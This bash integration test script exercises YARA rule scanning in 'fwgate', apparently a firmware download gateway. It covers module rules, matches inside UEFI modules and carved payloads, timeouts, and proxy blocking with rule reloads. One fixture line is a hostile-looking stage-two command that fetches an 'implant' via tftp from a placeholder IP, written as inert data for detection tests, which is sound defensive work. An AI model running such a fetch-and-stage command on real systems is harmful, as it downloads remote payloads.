#!/usr/bin/env bash
# Integration tests of the YARA rules ([scanner] yara_rules): `fwgate scan`
# with rules using the pe, elf, math and hash modules, a rule matching
# inside a compressed UEFI module and inside a payload carved out of a
# script, a timeout-heavy rule (unscannable, never clean); then `fwgate run`
# with a real TLS origin and curl: a malicious rule blocks a download (the
# refusal page and the event name it), a broken rule file at SIGHUP fails
# the reload with file:line and the old rules keep blocking, a fixed one
# loads. Usage: yara.sh FWGATE_BINARY SOURCE_ROOT
set -u
FW=$1
SRC=$2
HERE=$SRC/tests/integration
T=$(mktemp -d "${TMPDIR:-/tmp}/fwgate-yara-XXXXXX")
pids=()
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
	wait 2>/dev/null
	rm -rf "$T"
}
trap cleanup EXIT
. "$HERE/lib.sh"
# Keep the events of a failed run for a look.
[ -n "${FWGATE_YARA_KEEP:-}" ] && trap - EXIT

mkdir -m 700 "$T/state"
# scanconf NAME RULES [KEY = VALUE lines for [scanner]...]: writes $T/NAME.conf
scanconf() {
	local name=$1 rules=$2; shift 2
	{
		printf '[state]\ndir = %s/state\n[scanner]\nsignatures = %s/tests/data/signatures\nyara_rules = %s\n' \
			"$T" "$SRC" "$rules"
		for kv in "$@"; do printf '%s\n' "$kv"; done
	} >"$T/$name.conf"
}
# scan CONF FILE: `fwgate scan --json`, bounded; RC and $T/out
scan() {
	timeout 120 "$FW" scan --json -c "$1" "$2" >"$T/out" 2>"$T/err"
	RC=$?
}
# jcheck NAME PYEXPR: PYEXPR over d (the document of the last scan) must hold
jcheck() {
	local name=$1 expr=$2
	if python3 -c '
import json, sys
d = json.loads(open(sys.argv[1]).readline())
sys.exit(0 if eval(sys.argv[2]) else 1)
' "$T/out" "$expr" 2>/dev/null; then
		ok "$name"
	else
		bad "$name" "exit $RC" "json: $(head -c 2500 "$T/out")" "stderr: $(head -c 600 "$T/err")"
	fi
}
# The YARA matches of the last document: {rule: [member, effect]}
Y='{m["rule"]: [m["member"], m["effect"]] for m in d.get("yara", [])}'

# ------------------------------------------------------------- modules
mkdir "$T/mods"
fwdata 65536 "$T/mods/random.bin"  # 7 bits of entropy a byte: not packed, not text
printf 'a member whose hash a rule knows\n' >"$T/mods/known.txt"
cp /bin/true "$T/mods/true"
python3 "$SRC/tests/data/uefi_samples.py" "$T/uefi" >/dev/null || { echo "uefi_samples.py failed"; exit 1; }
KNOWN=$(sha256sum "$T/mods/known.txt" | cut -d' ' -f1)
(cd "$T/mods" && tar czf "$T/mods.tar.gz" random.bin known.txt true)
cat >"$T/modules.yar" <<EOF
import "pe"
import "elf"
import "math"
import "hash"

rule elf_exec : elf { meta: score = 3 condition: (elf.type == elf.ET_DYN or elf.type == elf.ET_EXEC) and elf.number_of_sections > 0 }
rule random_blob { meta: severity = "low" condition: filesize > 4096 and math.entropy(0, filesize) > 6.9 and math.entropy(0, filesize) < 7.1 }
rule known_member : ioc { meta: score = 1 condition: hash.sha256(0, filesize) == "$KNOWN" }
rule efi_driver : uefi { meta: score = 2 condition: pe.is_pe and pe.subsystem == pe.SUBSYSTEM_EFI_BOOT_SERVICE_DRIVER }
EOF
scanconf modules "$T/modules.yar"
scan "$T/modules.conf" "$T/mods.tar.gz"
check "modules: weighted matches only, the package is clean (exit $RC)" [ "$RC" = 0 ]
jcheck "elf: /bin/true matched" "$Y.get('elf_exec') == ['mods.tar.gz!true', 'weight']"
jcheck "math: the random member matched" "$Y.get('random_blob') == ['mods.tar.gz!random.bin', 'weight']"
jcheck "hash: the known member matched, nothing else did" \
	"$Y.get('known_member') == ['mods.tar.gz!known.txt', 'weight'] and len(d['yara']) == 3"
jcheck "weights: severity low is 10, score as given" \
	"sorted(m['weight'] for m in d['yara']) == [1, 3, 10]"
jcheck "the member entries name their matches" \
	"[m.get('yara_matches') for m in d['members'] if m['path'] == 'mods.tar.gz!true'] == [['elf_exec']]"

# ------------------------------------------------------------- inside a UEFI module
# FWGATE-MODULE-B is in the PE32 section of FwUpdateDxe, inside an LZMA
# section of a nested volume: only the walk's decoded module holds it.
cat >"$T/uefi.yar" <<'EOF'
import "pe"
rule implant_dxe : uefi implant { meta: verdict = "malicious" strings: $m = "FWGATE-MODULE-B" condition: pe.is_pe and $m }
EOF
scanconf uefi "$T/uefi.yar"
scan "$T/uefi.conf" "$T/uefi/fv-lzma.bin"
check "UEFI: a malicious rule in a compressed module is infected (exit $RC)" [ "$RC" = 1 ]
jcheck "UEFI: signature YARA.implant_dxe on the module's member chain" \
	"d['verdict'] == 'infected' and any(s['name'] == 'YARA.implant_dxe' and 'FwUpdateDxe' in s['member'] for s in d['signatures'])"
jcheck "UEFI: tags listed" "[m['tags'] for m in d['yara']] == ['uefi,implant']"
"$FW" scan -c "$T/uefi.conf" "$T/uefi/fv-lzma.bin" >"$T/human" 2>/dev/null
check "UEFI: fwgate scan names the rule and the chain" grep -qE "infected YARA\.implant_dxe$" "$T/human"
scanconf shipped ""
scan "$T/shipped.conf" "$T/uefi/fv-lzma.bin"
check "UEFI: clean under the shipped rules (exit $RC)" [ "$RC" = 0 ]

# ------------------------------------------------------------- inside a carved payload
# A Dell-style package: a script, then a gzip tar after a marker line.
mkdir "$T/dup"
printf '#!/bin/sh\nnothing here that any rule names\n' >"$T/dup/setup.sh"
printf 'tftp -g -r implant 198.51.100.9 && IMPLANT-STAGE-2\n' >"$T/dup/stage.txt"
(cd "$T/dup" && tar czf "$T/dup.tgz" setup.sh stage.txt)
{ printf '#!/bin/sh\nsed "0,/^#####Startofarchive#####/d" "$0" | tar -zx\nexit 0\n#####Startofarchive#####\n'; cat "$T/dup.tgz"; } >"$T/pkg.bin"
cat >"$T/carve.yar" <<'EOF'
rule stage_two : dropper { meta: verdict = "suspicious" description = "second stage" strings: $a = "IMPLANT-STAGE-2" condition: $a }
EOF
scanconf carve "$T/carve.yar"
scan "$T/carve.conf" "$T/pkg.bin"
check "carved: a suspicious rule in the appended tar.gz (exit $RC)" [ "$RC" = 1 ]
jcheck "carved: suspicious, the reason names the rule, its tags and the chain" \
	"d['verdict'] == 'suspicious' and any(r.startswith('YARA rule stage_two [dropper] matched in pkg.bin!@0x') and r.endswith('!stage.txt') for r in d['reasons'])"

# A directory without any rule file is a mistake, not "no rules".
mkdir "$T/norules"
scanconf norules "$T/norules"
scan "$T/norules.conf" "$T/pkg.bin"
check "a rule directory without *.yar is refused (exit $RC)" [ "$RC" = 2 ]
check "... and says so" grep -q "no \*.yar or \*.yara file in the YARA rule directory" "$T/err"

# ------------------------------------------------------------- time
# Entropy of every 64-byte window of 8 MiB: far more than a second.
head -c 8388608 /dev/urandom >"$T/big.bin"
cat >"$T/slow.yar" <<'EOF'
import "math"
rule slow { condition: for all i in (0..filesize - 64) : (math.entropy(i, 64) >= 0.0) }
EOF
scanconf slow "$T/slow.yar" "max_seconds = 2"
scan "$T/slow.conf" "$T/big.bin"
check "timeout: unscannable, never clean (exit $RC)" [ "$RC" = 1 ]
jcheck "timeout: the reason says YARA did not finish (max_seconds)" \
	"d['verdict'] == 'unscannable' and any('YARA did not finish within' in r and '(max_seconds)' in r for r in d['reasons'])"

# ------------------------------------------------------------- run: block, reload
mkdir -p "$T/www" "$T/gw"
bash "$HERE/pki.sh" "$T/pki" >/dev/null || { echo "pki.sh failed"; exit 1; }
printf 'firmware X carrying MARKER-X-7731\n' >"$T/www/x.bin"
printf 'firmware Y carrying MARKER-Y-1177\n' >"$T/www/y.bin"
printf 'firmware X2 carrying MARKER-X-7731 again\n' >"$T/www/x2.bin"
start_origin origin
OP=$ORIGIN_PORT
make_card "$T/card.json" "$OP"
printf 'vendor.test\n' >"$T/allow.txt"
printf 'rule marker_x : implant { meta: verdict = "malicious" strings: $a = "MARKER-X-7731" condition: $a }\n' \
	>"$T/gw/rules.yar"
P=$(free_port)
C=$(free_port)
EV=$T/events.log
{
	printf '[proxy]\nlisten = 127.0.0.1:%s\n[console]\nlisten = 127.0.0.1:%s\n' "$P" "$C"
	printf '[state]\ndir = %s/gwstate\n[policy]\nfile = %s/card.json\nallowlist = %s/allow.txt\n' "$T" "$T" "$T"
	printf '[upstream]\nca_file = %s/pki/testca.crt\nallow_private = true\nresolve = vendor.test:%s:127.0.0.1\n' "$T" "$OP"
	printf '[scanner]\nsignatures = %s/tests/data/signatures\nyara_rules = %s/gw\n' "$SRC" "$T"
	printf 'timeout_seconds = 20\nmax_seconds = 10\nworkers = 1\nwatch_signatures = false\n'
	printf '[log]\nfile = %s\n' "$EV"
} >"$T/gw.conf"
start_fwgate gw "$T/gw.conf"
CA=$T/gwstate/ca/ca.crt
fetch() { CODE=$(curl -s -o "$T/body" -w '%{http_code}' --max-time 30 --proxy "http://127.0.0.1:$P" --cacert "$CA" "$1"); }
fetch "https://vendor.test:$OP/files/x.bin"
check "run: a malicious YARA rule blocks the download ($CODE)" [ "$CODE" = 403 ]
check "run: the refusal page names the rule" grep -q "YARA.marker_x" "$T/body"
wait_for "the block event" 10 0.1 log_has "$EV" '"fwgate.signature":"YARA.marker_x"'
check "run: the event names the rule, its tags and the member (fwgate.yara)" \
	log_has "$EV" '"fwgate.yara":"marker_x \[implant\] in x.bin"'
fetch "https://vendor.test:$OP/files/y.bin"
check "run: Y delivered ($CODE)" [ "$CODE" = 200 ]

# A broken rule file: the reload fails with file:line, the old rules serve on.
printf 'rule marker_y { strings: $a = "MARKER-Y-1177" condition: $a }\n\nrule oops { condition: $nothing }\n' \
	>"$T/gw/more.yar"
kill -HUP "$FWPID"
wait_for "the failed reload" 20 0.1 log_has "$EV" '"event.action":"fwgate-reload-failed"'
check "reload: the failure names the rule file and line" \
	log_has "$EV" '"fwgate-reload-failed",.*"fwgate.reason":"[^"]*/gw/more.yar:3: undefined string'
fetch "https://vendor.test:$OP/files/x2.bin"
check "reload: the old rules still block ($CODE)" [ "$CODE" = 403 ]

# Fixed: the new rule set loads and applies.
printf 'rule marker_y { meta: verdict = "malicious" strings: $a = "MARKER-Y-1177" condition: $a }\n' >"$T/gw/more.yar"
kill -HUP "$FWPID"
wait_for "the reload" 20 0.1 log_has "$EV" '"event.action":"fwgate-reload"[,}]'
printf 'firmware Y2 carrying MARKER-Y-1177\n' >"$T/www/y2.bin"
fetch "https://vendor.test:$OP/files/y2.bin"
check "reload: the new rule blocks ($CODE)" [ "$CODE" = 403 ]
kill "$FWPID"
wait_for "fwgate to stop" 20 0.1 exited "$FWPID"

echo "# $pass passed, $fail failed"
[ "$fail" = 0 ]
